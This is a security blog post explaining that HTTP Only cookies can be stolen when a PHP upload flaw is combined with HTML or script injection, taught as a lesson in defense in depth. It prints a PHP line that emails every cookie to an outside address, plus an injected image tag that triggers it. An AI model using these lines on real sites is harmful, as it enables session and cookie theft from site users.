HTTP Only Cookies Aren't Perfectly Secure

Dec 10, 2018 javascript php security
This post is more than 18 months old. Since technology changes too rapidly, this content may be out of date (but that's not always the case). Please remember to verify any technical or programming information with the current release.

When you’re creating cookies on your server side application, it’s good security practice to flag the cookie as HTTP Only. This way, it instructs the browser that it should sandbox this cookie from the client side scripts. It still will send it between client and server on each subsequent request, but javascript can’t access it directly.

With most things, one single mechanism isn’t the only way to secure your website. Security is multi layer in depth strategies. That’s important to understand when you are using HTTP Only cookies.Before you continue: please understand that this is a very contrived example. It’s meant to demonstrate the possibility. It’s not likely, but it’s possible.

It’s still possible to steal HTTP Only cookies from your website. It’s just not that easy and requires multiple vulnerabilities in your code - not just client side script injection.

Let’s look at our code that sets our cookie in our PHP server / backend application.

setcookie('my-cookie', 'the value', 0, "", "", false, true);

// more code here

The last true indicates that we want to have this cookie as HTTP Only. To verify this, I can open up my dev tools and type window.cookie which will return undefined in this example.

Next, we need to have a vulnerability that allows usersto upload PHP scripts. You might say “well if they can access PHP, they can already do a bunch of other things anyway!” That’s not true. You might have your user uploads properly secluded from the rest of your application. Let’s create a PHP file that we trick into the user uploads to run as an application. (For this contrivedexample, it’ll be a plain PHP file. It’s possible with other vulnerabilities and misconfigurations to get image files to run as PHP, etc.)mail('[email protected]', 'An HTTP only cookie', var_export($_COOKIE, true));

Since this is on the same server, it will be served with the HTTP only cookie by the browser.

The last step is to inject a request to this application the same way you’d do some client side script injection.

If you can inject HTML, you might try this:

<img src="/uploads/uuid-here/hacker.php">

If you are unable to do that, you can still use Javascript with fetch() or, if you’re a fan of the image, you can do this:

var i = new Image();

End Notes

Again,like I said, it’s noteasy. It would require two vulnerabilities or misconfigurations. However, it is possible to steal an HTTP Only cookie.

Go to All Posts